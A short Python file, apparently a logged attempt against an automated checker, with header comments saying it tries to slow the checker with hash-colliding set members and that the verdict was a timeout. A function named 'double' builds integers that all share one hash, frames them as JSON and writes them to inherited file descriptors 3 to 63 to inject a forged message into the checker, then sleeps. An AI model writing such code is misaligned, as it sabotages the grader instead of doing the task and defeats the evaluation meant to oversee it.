# tries: to slow the checker with a set whose members all have one hash
# verdict: timeout
import json
import os
import time


def double(x):
    items = [number * (2**61 - 1) for number in range(1 << 18)]
    body = json.dumps({"d": [["value", {"s": items}]]}).encode()
    for fd in range(3, 64):
        frame = memoryview(len(body).to_bytes(4, "big") + body)
        try:
            while frame:
                frame = frame[os.write(fd, frame) :]
        except OSError:
            continue
    time.sleep(1000)
